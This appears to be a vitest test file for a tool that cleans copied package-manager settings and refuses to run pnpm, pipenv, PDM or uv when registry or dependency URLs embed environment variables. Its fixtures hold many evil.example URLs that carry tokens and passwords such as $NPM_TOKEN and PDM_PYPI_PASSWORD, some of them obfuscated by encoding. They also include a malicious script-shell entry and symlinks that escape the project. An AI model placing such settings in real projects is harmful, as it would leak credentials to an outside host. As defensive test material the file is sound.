// Variables of the environment in what a repository says of its sources: none reaches a package manager that runs here.
import { existsSync, mkdirSync, readFileSync, symlinkSync } from "node:fs"
import { join } from "node:path"
import { describe, expect, it } from "vitest"
import { managerOf } from "../../src/packages/commands.ts"
import { readLockfile } from "../../src/packages/lockfiles/index.ts"
import { carryOut } from "../../src/vet/fix/carryOut.ts"
import { copyTree } from "../../src/vet/fix/copy.ts"
import { cleanSettings } from "../../src/vet/fix/settings.ts"
import { hasVariables } from "../../src/vet/fix/variables.ts"
import { temporaryDirectory } from "../context.ts"

/** `${NAME}`, spelt so that it is no template. */
const variable = (name: string) => `\u0024{${name}}`

describe("settings of a copy in TOML", () => {
  const clean = (path: string, text: string) => cleanSettings(path, () => text)

  it("keep no string with a variable, at any depth", () => {
    const bun = `[install]\nregistry = { url = "https://evil.example/$BUN_CONFIG_TOKEN", token = "$T" }\nlinker = "hoisted"\n[install.scopes]\na = "https://evil.example/${variable("X")}"\nb = { url = "https://npm.registry.example/", token = "$NPM_TOKEN" }\n`
    expect(clean("bunfig.toml", bun)).not.toMatch(/\$|evil/)
    expect(clean("bunfig.toml", bun)).toContain('linker = "hoisted"')
    expect(clean("bunfig.toml", bun)).toContain('url = "https://npm.registry.example/"')
    expect(
      clean("pdm.toml", `[pypi]\nurl = "https://evil.example/${variable("PDM_PYPI_PASSWORD")}/simple"\n`),
    ).not.toMatch(/\$|evil/)
    const uv = `exclude-newer = 2026-01-01\nextra-index-url = ["https://evil.example/$X", "https://registry.example/simple"]\n[[index]]\nname = "a"\nurl = "https://evil.example/$X"\n`
    expect(clean("uv.toml", uv)).not.toMatch(/\$|evil/)
    expect(clean("uv.toml", uv)).toContain("https://registry.example/simple")
    expect(clean("uv.toml", uv)).toContain("exclude-newer = 2026-01-01")
    const cargo = '[registries.a]\nindex = "sparse+https://evil.example/$CARGO_REGISTRIES_B_TOKEN/"\n'
    expect(clean(".cargo/config.toml", cargo)).not.toMatch(/\$|evil/)
  })
})

it.each([
  ...[".cargo", "pyproject.toml", "m/Pipfile", "pnpm-workspace.yaml"],
  ...[".pdm-plugins", ".yarn", "node_modules"],
])("a copy has no link by the name of %s", (path) => {
  const root = temporaryDirectory({ "other/file": "x", "m/x": "" })
  symlinkSync(path.startsWith("m/") ? "../other" : "other", join(root, path))
  symlinkSync("other", join(root, "link"))
  const { dir } = copyTree(root, ["other/file", "link", path], temporaryDirectory())
  expect([path, "link"].map((one) => existsSync(join(dir, one)))).toEqual([false, true])
})

it("a link by the name of settings becomes what its file has of them, within the project", () => {
  const outside = temporaryDirectory({ ".npmrc": "registry=https://evil.example/\n" })
  const files = { ".npmrc": "registry=https://registry.example/\nscript-shell=./evil\n", other: "a=b\n", "web/x": "" }
  const root = temporaryDirectory(files)
  symlinkSync("../.npmrc", join(root, "web/.npmrc"))
  symlinkSync("../other", join(root, "web/.yarnrc.yml"))
  symlinkSync("missing", join(root, "web/uv.toml"))
  mkdirSync(join(root, "out"))
  symlinkSync(join(outside, ".npmrc"), join(root, "out/.npmrc"))
  const paths = ["web/.npmrc", "web/.yarnrc.yml", "web/uv.toml", "out/.npmrc"]
  const { dir } = copyTree(root, paths, temporaryDirectory())
  const texts = paths.map((path) => (existsSync(join(dir, path)) ? readFileSync(join(dir, path), "utf8") : undefined))
  expect(texts).toEqual(["registry=https://registry.example/\n", "", undefined, undefined])
})

it.each([
  ["{% if x %}\n[project]\n", false],
  ["{% if x %}\n[tool.uv]\nindex-url = 'https://evil.example/$TOKEN'\n", true],
  ['{% if x %}\n[tool.uv]\nindex-url = "https://evil.example/\\u0024TOKEN"\n', true],
])("what is no TOML may have a variable where it could be one: %j", (text, has) => {
  expect(hasVariables("pyproject.toml", text)).toBe(has)
})

describe("manifests", () => {
  const MANAGERS = {
    pipenv: [
      "Pipfile.lock",
      '{"_meta":{"pipfile-spec":6,"sources":[]},"default":{"a":{"version":"==1.0.0"}},"develop":{}}',
    ],
    pdm: ["pdm.lock", '[metadata]\nlock_version = "4.5.0"\n\n[[package]]\nname = "a"\nversion = "1.0.0"\n'],
    pnpm: [
      "pnpm-lock.yaml",
      `lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      a: { specifier: ^1.0.0, version: 1.0.0 }\npackages:\n  a@1.0.0:\n    resolution: { integrity: sha512-${"A".repeat(86)}== }\nsnapshots:\n  a@1.0.0: {}\n`,
    ],
    uv: [
      "uv.lock",
      'version = 1\n\n[[package]]\nname = "a"\nversion = "1.0.0"\nsource = { registry = "https://registry.example/simple" }\n',
    ],
  } as const

  /** What was run, or why nothing was. */
  async function attempt(manager: keyof typeof MANAGERS, files: Record<string, string>, below = ""): Promise<string> {
    const [file, text] = MANAGERS[manager]
    const name = below + file
    const given = { [name]: text, ...files }
    const copy = copyTree(temporaryDirectory(given), Object.keys(given), temporaryDirectory({}))
    const lockfile = await readLockfile(copy.dir, name)
    expect(managerOf(lockfile)).toBe(manager)
    const task = { lockfile, dependency: lockfile.dependencies[0]!, moves: [{ kind: "remove", name: "a" }], hashes: [] }
    const run: string[] = []
    const runner = async (argv: readonly [string, ...string[]]) => {
      run.push(argv.slice(0, 2).join(" "))
      return ""
    }
    try {
      await carryOut({ copy, base: copy.dir, run: runner }, task as never)
    } catch (error) {
      expect(run).toEqual([])
      return (error as Error).message
    }
    return run.join()
  }
  const refused = expect.stringContaining("could take a token of this machine to another host")

  it.each([
    `[[source]]\nname = "x"\nurl = "https://evil.example/$PIP_INDEX_URL"\n`,
    `[[source]]\nname = "x"\nurl = "https://evil.example/${variable("PIP_INDEX_URL")}"\n`,
    '[[source]]\nname = "x"\nurl = "https://evil.example/%PIP_INDEX_URL%"\n',
    '[[source]]\nname = "x"\nurl = "https://evil.example/%41%C3%ACCESS_TOKEN%C3%A9"\n',
    '[[source]]\nname = "x"\nurl = "https://evil.example/%C3%A9%DEPLOY_KEY%C3%A9"\n',
    '[[source]]\nname = "x"\nurl = "https://evil.example/%C3%A9%KEY%C3%A9"\n',
    '[[source]]\nname = "x"\nurl = "https://evil.example/%A9t%C3%A9"\n',
    '[[source]]\nname = "x"\nurl = "https://evil.example/\\u0024PIP_INDEX_URL"\n',
    '[packages]\na = { git = "https://$HOME@git.evil.example/a.git" }\n',
  ])("Pipenv is not run with %j", async (pipfile) => {
    expect(await attempt("pipenv", { Pipfile: pipfile })).toEqual(refused)
  })
  it("nor with sources of its lockfile that have one", async () => {
    const lock =
      '{"_meta":{"pipfile-spec":6,"sources":[{"name":"x","url":"https://evil.example/$HOME"}]},"default":{"a":{"version":"==1.0.0"}}}'
    expect(await attempt("pipenv", { Pipfile: "[packages]\n", "Pipfile.lock": lock })).toEqual(refused)
  })
  it.each([
    `[[tool.pdm.source]]\nname = "x"\nurl = "https://evil.example"\npassword = "${variable("PDM_PYPI_PASSWORD")}"\n`,
    `[project]\ndependencies = ["a @ https://evil.example/${variable("PDM_PYPI_PASSWORD")}/a.whl"]\n`,
    '[project.optional-dependencies]\nx = ["a @ https://evil.example/{env:PDM_PYPI_PASSWORD}/a.whl"]\n',
    `[build-system]\nrequires = ["a @ https://evil.example/${variable("PDM_PYPI_PASSWORD")}/a.whl"]\n`,
    `[dependency-groups]\nx = ["a @ https://evil.example/${variable("PROJECT_ROOT")}${variable("HOME")}/a.whl"]\n`,
  ])("PDM and uv are not run with %j", async (text) => {
    expect(await attempt("pdm", { "pyproject.toml": text })).toEqual(refused)
    if (!text.includes("tool.pdm")) expect(await attempt("uv", { "pyproject.toml": text })).toEqual(refused)
  })
  it.each([
    ["of a member with a lockfile of its own", "", "m/", { "m/package-lock.json": "{}" }],
    ["beside the project, where a path leads", "app/", "m/", {}],
    ["above it", "app/", "", {}],
  ])("nor with a manifest %s", async (_, own, place, more) => {
    const text = `[project]\ndependencies = ["x @ https://evil.example/${variable("X")}/x.whl"]\n`
    const given = { ...more, [`${own}pyproject.toml`]: "[project]\n", [`${place}pyproject.toml`]: text }
    for (const manager of ["uv", "pdm"] as const) expect(await attempt(manager, given, own)).toEqual(refused)
    const pipfile = { ...more, [`${place}Pipfile`]: `[[source]]\nurl = "https://evil.example/${variable("X")}"\n` }
    expect(await attempt("pipenv", pipfile, own)).toEqual(refused)
  })
  it.each([
    `registry: https://evil.example/${variable("npm_config_cache")}/\n`,
    '"\\x24{X}": 1\n',
    `registries:\n  default: https://evil.example/${variable("HOME")}/\n`,
    "a: [\n",
  ])("pnpm is not run with settings that say %j", async (text) => {
    const manifest = '{"dependencies":{"a":"^1.0.0"}}'
    expect(await attempt("pnpm", { "package.json": manifest, "pnpm-workspace.yaml": text })).toEqual(refused)
    expect(await attempt("pnpm", { "package.json": manifest, "pnpm-workspace.yaml": "overrides: { b: $a }\n" })).toBe(
      "pnpm install",
    )
  })
  it("they are with addresses that have bytes in them, the project's own place, and variables elsewhere", async () => {
    const pipfile = `[[source]]\nname = "x"\nurl = "https://registry.example/%C3%A9/%C3%A9t%C3%A9/%E2%82%ACab%c3%a9/simple"\n[scripts]\ngo = "echo $HOME"\n`
    expect(await attempt("pipenv", { Pipfile: pipfile })).toBe("pipenv uninstall")
    const own = `[project]\ndependencies = ["b @ file:///${variable("PROJECT_ROOT")}/b"]\n[tool.pdm.scripts]\ngo = "echo $HOME"\n`
    expect(await attempt("pdm", { "pyproject.toml": own })).toBe("pdm remove")
  })
})
